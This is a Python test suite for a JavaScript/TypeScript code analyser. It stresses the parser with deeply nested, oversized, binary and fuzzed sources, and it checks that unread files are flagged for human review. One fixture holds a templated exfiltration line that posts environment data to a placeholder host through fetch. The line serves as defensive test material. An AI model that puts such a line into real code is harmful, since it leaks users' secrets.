"""JavaScript that is made to take long, to break the parser, or to hide behind sheer size."""

import re

import pytest
from analysis_kit import assert_fits_document
from hypothesis import given, settings
from hypothesis import strategies as st
from script_kit import SERVER, assembled
from test_script_analysis import FAULTS, HARMLESS

from miner.analysis import bounds
from miner.analysis.analyse import analyse

SIZE = 2_000
PIECES = [
    "(", "[", "{", "`${", "<a>", "a?b:", "a=>", "async (", "({", "'", "\\", "a+", "f(", "function f(){",
    "class A{", "\0", "\ufffd", "a<b,", "f<T>(", "a as ", ".b", "new ", "/*", "({a=", "type A=", "A extends B?",
    "!", "if(a)b;else ", "[a]=[", "x=x+'a',", "require(", "process.env.", "a=a||", "...", "await ", "x.then(x=>",
    "(0,", "import(", "<!--",
]  # fmt: skip


@pytest.mark.parametrize("piece", PIECES)
def test_sources_that_press_the_parser_are_borne(piece: str) -> None:
    source = (piece * SIZE).encode()[:SIZE]
    files = {"a.js": source, "b.ts": source}
    assert_fits_document(analyse(files, SERVER), files, SERVER)


DEEP = {
    "calls": b"f(" * 3_000 + b"1" + b")" * 3_000,
    "functions": b"(()=>" * 200 + b"1" + b")" * 200,
    "sums": b"x = " + b"+".join([b"'a'"] * 3_000),
    "members": b"x" + b".a" * 3_000 + b";",
    "one line": b"x = '" + b"a" * 300_000 + b"';",
    "size": b"x = 1;\n" * 60_000,
    "brackets of types": b"a<b,\n" * 2_000,
    "no text": bytes(range(256)) * 50,
    "names for names": b"const a0='a'+'b';"
    + b"".join(b"const a%d=a%d+a%d;" % (n, n - 1, n - 1) for n in range(1, 500)),
    "functions of functions": b"".join(b"function f%d(a){return f%d(a,f%d(a))}\n" % (n, n + 1, n) for n in range(150)),
    "tools in tools": b"x = " + b"{name:'a',description:'b',inputSchema:" * 300 + b"1" + b"}" * 300,
}


@pytest.mark.parametrize("name", DEEP)
def test_depth_and_size_are_borne(name: str) -> None:
    files = {"a.js": DEEP[name], "b.ts": DEEP[name]}
    assert_fits_document(analyse(files, SERVER), files, SERVER)


def test_what_is_not_read_is_said_and_is_for_a_person_to_review() -> None:
    large = analyse({"a.js": b"//" + b"x" * bounds.MAX_SCRIPT_FILE}, SERVER)
    nested = analyse({"a.js": b"(()=>" * 150 + b"1" + b")" * 150}, SERVER)
    angles = analyse({"a.ts": b"a<b;\n" * (bounds.MAX_SCRIPT_ANGLES + 1)}, SERVER)
    texts = [[f.description for f in analysis.findings] for analysis in (large, nested, angles)]
    assert texts == [
        ["The file is unread: larger than what is read."],
        ["The file is unread: nested too deeply."],
        ["The file is unread: beyond what is read of one bundle."],
    ]
    assert {analysis.verdict for analysis in (large, nested, angles)} == {"REVIEW"}


def test_telling_files_are_read_before_bulk_and_what_does_not_parse_costs_more() -> None:
    evil = assembled("fetch('https://<HOST>', {body: JSON.stringify(<ENV>)});").encode()
    bulk = {f"a{n:02}.js": b"// " + b"x" * 250_000 + b"\nf(;\n" for n in range(4)}
    analysis = analyse({**bulk, "z.js": evil}, SERVER)
    assert analysis.findings[0].evidence_ref == "z.js#L1-L1"
    assert sum("unread" in f.description for f in analysis.findings) == 3


def test_one_source_twice_gives_one_result_twice() -> None:
    files = {f"{n}.ts": assembled(source).encode() for n, (source, _) in enumerate(FAULTS.values())}
    assert analyse(files, SERVER) == analyse(dict(reversed(files.items())), SERVER)


SEEDS = [assembled(source) for source in (*(source for source, _ in FAULTS.values()), *HARMLESS.values())]
WORDS = sorted({word for source in SEEDS for word in re.findall(r"\w+|[^\w\s]", source)})


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from(WORDS), max_size=60), st.sampled_from(["js", "ts", "tsx"]))
def test_random_words_do_not_break_the_analysis(words: list[str], suffix: str) -> None:
    files = {f"a.{suffix}": " ".join(words).encode()}
    assert_fits_document(analyse(files, SERVER), files, SERVER)


@settings(max_examples=40, deadline=None)
@given(st.sampled_from(SEEDS), st.integers(0, 400), st.integers(0, 40), st.binary(max_size=12))
def test_mutated_sources_do_not_break_the_analysis(seed: str, at: int, length: int, put: bytes) -> None:
    content = seed.encode()
    files = {"a.js": content[:at] + put + content[at + length :]}
    assert_fits_document(analyse(files, SERVER), files, SERVER)
